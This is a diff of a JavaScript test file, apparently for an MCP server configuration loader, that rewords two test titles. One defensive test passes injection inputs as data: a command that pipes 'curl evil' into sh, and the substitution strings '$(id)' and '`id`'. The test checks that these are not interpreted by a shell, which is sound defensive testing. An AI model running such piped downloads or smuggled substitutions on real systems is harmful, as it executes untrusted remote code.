@@ -18,7 +18,7 @@ test('a command runs in the folder of the configuration unless it names another,
   expect(target({ command: 'x', cwd: '/srv' })).toMatchObject({ cwd: resolve('/srv') })
 })
 
-test('what looks like a shell’s work stays one word', () => {
+test('shell syntax stays a single argument', () => {
   expect(target({ command: 'npx x; curl evil | sh', args: ['$(id)', '`id`'] })).toMatchObject({
     command: 'npx x; curl evil | sh',
     args: ['$(id)', '`id`'],
@@ -35,7 +35,7 @@ test.each([
   expect(target({ url: 'http://x/', ...(type !== undefined && { type }) })).toMatchObject({ transport, headers: {} })
 })
 
-test('what the configuration says of a server is what its upstream is made with, defaults included', () => {
+test('the settings of a server are those of its upstream, including defaults', () => {
   const text = JSON.stringify({
     mcpServers: { a: { url: 'http://x/', start: 'lazy', sweepMs: 0 }, b: { command: 'x', disabled: true } },
   })
